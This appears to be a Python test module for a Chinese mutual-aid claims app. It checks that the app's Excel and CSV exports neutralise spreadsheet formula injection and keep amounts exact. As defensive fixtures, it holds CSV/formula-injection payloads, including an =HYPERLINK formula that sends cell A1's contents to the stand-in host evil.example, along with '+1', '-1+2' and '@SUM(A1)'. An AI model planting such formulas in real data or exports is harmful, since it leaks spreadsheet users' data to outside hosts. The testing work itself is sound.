"""Formulas typed into data never run in a spreadsheet (issue 22, finding 3).

A unit renamed ``=HYPERLINK(...)``, members named ``+1`` and ``-1+2``, a feed whose
hospital and settlement ID carry formulas, a policy whose benefit is named ``@SUM(A1)``:
every workbook the app writes (the proactive run's report and follow-up lists, the
queue, 大额回访, member, audit, statistics, import-error and what-if exports) holds them
as text — no cell is a formula or a link, the text reads as typed and carries Excel's
quote prefix; every CSV export prefixes them with an apostrophe. Amounts are exact.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest

from huzhu.audit import export as audit_export
from huzhu.audit import log as audit_log
from huzhu.audit.models import AuditEntry
from huzhu.claims import queue_export
from huzhu.claims.followup import service as followup
from huzhu.claims.models import Claim
from huzhu.feeds.models.proactive import BatchRun
from huzhu.feeds.proactive import followups
from huzhu.feeds.proactive.report import write_report
from huzhu.imports.errors import RowError
from huzhu.imports.errors import write_report as write_error_report
from huzhu.lib import csvsafe
from huzhu.lib.xlsx import Workbook
from huzhu.members.export import export_queryset, write_members_xlsx
from huzhu.members.models import Member
from huzhu.reports.exports import statistics_xlsx
from huzhu.rules import load_policy
from huzhu.rules.loader import load_reform
from huzhu.rules.reform import describe_changes
from huzhu.rules.simulate_xlsx import write_xlsx as write_simulation
from huzhu.rules.simulation import TOP_CHANGES, EventChange, GroupRow, PolicyInfo, SimulationReport
from tests.coverage.conftest import admin, free_scheme, staff  # noqa: F401
from tests.feeds.batch_helpers import feed_file, member_stay, run_feed
from tests.feeds.conftest import feed_dir  # noqa: F401

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
PAYLOADS = (LINK, "+1", "-1+2", "@SUM(A1)")


def cells(data: bytes | Path) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
            if c.value is not None]


def assert_safe(data: bytes | Path, *expected: str) -> None:
    """No formula, no link; each ``expected`` text is in a cell as typed, quote-prefixed."""
    found = cells(data)
    assert found
    assert not [c.coordinate for c in found if c.data_type == "f" or c.hyperlink]
    for text in expected:
        hits = [c for c in found if c.value == text]
        assert hits, f"{text!r} not in the workbook"
        assert all(c.data_type == "s" and c.quotePrefix for c in hits)
    # Nothing else that looks like a formula went in as a plain string cell either.
    assert all(c.quotePrefix for c in found
               if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))


# ------------------------------------------------------------- the shared writers


def test_the_workbook_writes_text_as_text_and_amounts_to_the_fen(tmp_path):
    out = io.BytesIO()
    amounts = [Decimal("0.01"), Decimal("12345.60"), Decimal("-880.005"),
               Decimal("999999999999.99"), Decimal("9007199254740.99")]
    with Workbook(out) as book:
        sheet = book.sheet("表")
        sheet.header(("文字", "金额"))
        for r, (text, amount) in enumerate(zip([*PAYLOADS, "\t制表"], amounts, strict=True),
                                           start=1):
            sheet.row(r, 0, (text, amount))
        sheet.row(6, 0, ("普通", None, ""))  # nothing and "" are empty cells
    data = out.getvalue()
    assert_safe(data, *PAYLOADS, "\t制表")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A7"].value == "普通" and not sheet["A7"].quotePrefix
    assert sheet["B7"].value is None and sheet["C7"].value is None
    got = [Decimal(str(sheet.cell(r, 2).value)).quantize(Decimal("0.01"))
           for r in range(2, 7)]
    assert got == [Decimal("0.01"), Decimal("12345.60"), Decimal("-880.01"),
                   Decimal("999999999999.99"), Decimal("9007199254740.99")]
    assert {sheet.cell(r, 2).number_format for r in range(2, 7)} == {"#,##0.00"}
    # The cell holds the Decimal's own digits, never a float's 12345.6000000001.
    xml = __import__("zipfile").ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<v>12345.60</v>" in xml and b"<v>9007199254740.99</v>" in xml


def test_the_csv_writer_neutralises_text_but_not_amounts():
    out = io.StringIO()
    writer = csvsafe.writer(out)
    writer.writerow([*PAYLOADS, "\tx", "\rx", "普通", Decimal("-12.5"), 3, None,
                     dt.date(2026, 3, 10)])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + LINK, "'+1", "'-1+2", "'@SUM(A1)", "'\tx", "'\rx", "普通", "-12.50",
                   "3", "", "2026-03-10"]
    with pytest.raises(TypeError):
        csvsafe.cell(1.5)  # money is never a float


# ------------------------------------------------------------- every export


@pytest.fixture
def poisoned(staff, free_scheme, feed_dir):  # noqa: F811
    """The finding's data: a unit, members, a hospital and a settlement ID as formulas,
    run through the proactive batch (which files claims)."""
    m1, m2, m3 = staff["m1"], staff["m2"], staff["m3"]
    m1.unit.name = LINK
    m1.unit.save()
    m2.name, m3.name = "+1", "-1+2"
    Member.objects.bulk_update([m2, m3], ["name"])
    path = feed_file(feed_dir, [
        member_stay(m1, "900000.00", hospital="@SUM(A1)", settlement_id="=1+1"),
        member_stay(m2, "7000.00", hospital='=HYPERLINK("http://evil.example")'),
        member_stay(m3, "152000.00", hospital="-1+2"),
    ])
    run_feed(path, free_scheme)
    run = BatchRun.objects.get()
    assert Claim.objects.count() == 3, list(run.outcomes.values_list("row", "outcome",
                                                                      "reason_text"))
    audit_log.record(None, AuditEntry.Action.MEMBER_UPDATED, m1, summary=LINK)
    return SimpleNamespace(run=run, staff=staff)


def test_the_proactive_report_and_follow_up_lists(poisoned, tmp_path):
    run = poisoned.run
    xlsx = io.BytesIO()
    write_report(run, xlsx, fmt="xlsx")
    assert_safe(xlsx.getvalue(), "+1", "-1+2", "=1+1")
    path = tmp_path / "report.csv"
    write_report(run, path)
    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    assert any(r[0] == "'=1+1" for r in rows)  # the settlement ID, apostrophe-prefixed
    assert not [v for r in rows for v in r if v.startswith(("=", "+", "-", "@"))]
    assert any(r[4] == "50000.00" for r in rows)  # amounts stay plain numbers
    found = set()
    for kind in followups.LISTS:
        out = io.BytesIO()
        followups.write_xlsx(run, kind, out)
        assert_safe(out.getvalue())
        found |= {c.value for c in cells(out.getvalue())}
    # The unit, the names and the hospitals reached the lists, as text.
    assert {LINK, "-1+2", "@SUM(A1)"} <= found


def test_the_claim_exports(poisoned):
    out = io.BytesIO()
    queue_export.write_xlsx(Claim.objects.all(), out, "（全部）")
    assert_safe(out.getvalue(), LINK, "+1", "-1+2")
    out = io.BytesIO()
    followup.write_xlsx(Claim.objects.all(), out)
    assert_safe(out.getvalue(), LINK, "+1", "-1+2")
    amounts = [c.value for c in cells(out.getvalue()) if c.data_type == "n"]
    assert 50000 in amounts


def test_the_member_and_audit_exports(poisoned):
    out = io.BytesIO()
    write_members_xlsx(export_queryset(Member.objects.order_by("pk")), out, full=False)
    assert_safe(out.getvalue(), LINK, "+1", "-1+2")
    out = io.BytesIO()
    audit_export.write_xlsx(AuditEntry.objects.all(), out, "@筛选")
    assert_safe(out.getvalue(), LINK, "@筛选")


def test_the_import_error_report():
    out = io.BytesIO()
    write_error_report([RowError("=1+1.csv", 2, "@SUM(A1)", "-1+2 不是日期")], out,
                       total_errors=3)
    assert_safe(out.getvalue(), "=1+1.csv", "@SUM(A1)", "-1+2 不是日期")


def test_the_statistics_export():
    row = SimpleNamespace(name=LINK, paid_total=Decimal("54240.00"), person_times=4, members=3)
    stats = SimpleNamespace(
        selection=SimpleNamespace(scheme=SimpleNamespace(name="+方案"),
                                  union=SimpleNamespace(name="-1+2"), label="2026年"),
        by_benefit=[row])
    data = statistics_xlsx(stats, ["benefit"])  # type: ignore[arg-type]
    assert_safe(data, LINK, "+方案 · -1+2 · 2026年 · 分项目给付")
    sheet = openpyxl.load_workbook(io.BytesIO(data))["分项目给付"]
    assert [c.value for c in sheet[3]] == [LINK, 54240, 4, 3]
    assert sheet["B3"].number_format == "#,##0.00"


def test_the_what_if_workbook_has_plain_chinese_and_no_formulas(tmp_path):
    base = load_policy("changchun-2023")
    overlay = tmp_path / "reform.yaml"
    overlay.write_text(
        "reform_of: changchun-2023\ncode: evil\nname: \"@改革\"\nchanges:\n"
        "  - set: benefits[hospital].name\n    to: '=HYPERLINK(\"http://x\",\"y\")'\n"
        "  - set: benefits[hospital].caps[cap_per_year].amount\n    to: 60000\n",
        encoding="utf-8")
    reform = load_reform(overlay)
    name = '=HYPERLINK("http://x","y")'
    def group(key: str, label: str) -> GroupRow:
        return GroupRow(key=key, label=label, events=2, base_total=Decimal("100.10"),
                        reform_total=Decimal("200.20"), difference=Decimal("100.10"),
                        paid_more=1, paid_less=0, unchanged=1)

    side = {"payable": Decimal("50.05"), "reason_message": "-1+2"}
    report = SimulationReport(
        base=PolicyInfo.of(base), reform=PolicyInfo.of(reform),
        changes=describe_changes(base, reform), events=2, members=2,
        base_total=Decimal("100.10"), reform_total=Decimal("200.20"),
        difference=Decimal("100.10"), members_paid_more=1, members_paid_less=0,
        members_unchanged=1, by_benefit=[group("hospital", f"{name}（hospital）")],
        by_band=[group("hospital band", f"{name} · -1+2")], by_month=[group("m", "2026-03")],
        largest=[EventChange("E1", "+M1", "hospital", dt.date(2026, 3, 10),
                             Decimal("100.10"), side, side)])
    out = tmp_path / "what-if.xlsx"
    write_simulation(report, out)
    assert_safe(out, name, "+M1")
    book = openpyxl.load_workbook(out)
    texts = [str(c.value) for c in cells(out) if isinstance(c.value, str)]
    # Plain Chinese: no benefit code, no cap code, no YAML path.
    assert not [t for t in texts if "hospital" in t or "cap_per_year" in t or "benefits[" in t]
    changes = [r for r in book["方案变化"].iter_rows(min_row=6, values_only=True)]
    assert changes == [("住院医疗补贴 · 名称", "住院医疗补贴", name),
                       ("住院医疗补贴 · 每人每年金额上限 · 金额", "50000.00 元", "60000.00 元")]
    assert [c.value for c in book["方案变化"][5]] == ["项目与参数", "原方案", "改革方案"]
    assert book["按项目"]["A2"].value == name
    assert book[f"变化最大的{TOP_CHANGES}个"]["C2"].value == name
    assert book["总体"]["B2"].value == 100.1 and book["总体"]["B2"].number_format == "#,##0.00"
